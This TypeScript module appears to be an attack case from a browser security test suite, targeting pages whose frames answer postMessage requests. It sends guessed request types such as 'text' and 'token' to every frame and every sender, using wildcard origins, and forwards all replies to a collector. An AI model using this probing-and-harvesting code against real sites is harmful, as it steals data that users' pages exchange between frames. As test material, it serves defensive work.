/** Asks every frame and everyone who ever wrote to it for the text, in many words. */
import type { ReadAttack } from '../attack.ts';

export const asksEveryFrame: ReadAttack = {
  weakness: 'frame-that-answers',
  trap: ({ home }) => {
    const ask = (one: MessageEventSource | null): void => {
      for (const kind of ['text', 'rows', 'get', 'hello', 'open', 'bind', 'token', 'ready']) {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => void home(data);
        (one as Window | null)?.postMessage({ kind, type: kind, method: kind, token: '' }, '*', [port2]);
      }
    };
    const asked = new Set<MessageEventSource | null>([window]);
    addEventListener('message', ({ data, source, ports }) => {
      void home(data);
      for (const port of ports) port.onmessage = (event) => void home(event.data);
      if (!asked.has(source)) ask(source);
      asked.add(source);
    });
    document.addEventListener('hostile-go', () => {
      for (let index = 0; index < window.length; index++) ask(window[index] as unknown as Window);
      for (const { contentWindow } of document.querySelectorAll('iframe')) ask(contentWindow);
    });
  },
  grab: ({ pause }) => pause(300),
};
